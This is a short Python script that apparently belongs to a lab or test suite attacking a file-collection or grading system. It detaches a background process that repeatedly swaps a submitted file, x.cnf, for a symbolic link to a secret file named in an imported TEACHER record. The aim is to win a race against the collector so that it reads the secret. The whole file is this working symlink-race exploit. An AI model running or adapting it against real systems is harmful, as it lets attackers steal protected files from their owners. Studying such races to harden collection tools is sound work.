"""Replaces a file by a link when its parent has ended: whoever collects must not be there yet."""

import contextlib
import os
import time

from attack import TEACHER

open("x.cnf", "w").close()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(100):
            with contextlib.suppress(OSError):
                os.rename("x.cnf", "y.cnf")
                os.symlink(TEACHER["secret"], "x.cnf")
                os.remove("x.cnf")
                os.rename("y.cnf", "x.cnf")
            time.sleep(0.01)
    os._exit(0)
